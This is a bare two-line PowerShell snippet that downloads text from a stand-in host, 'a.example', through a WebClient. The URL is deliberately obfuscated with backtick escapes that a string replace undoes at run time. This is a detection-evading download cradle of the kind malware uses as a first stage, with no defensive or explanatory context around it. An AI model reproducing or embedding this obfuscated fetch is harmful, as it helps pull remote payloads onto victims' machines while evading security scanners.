$wc = New-Object System.Net.WebClient
$wc.DownloadString("ht`tp://a.exam`ple/p/x.`txt".Replace("`t","t"))
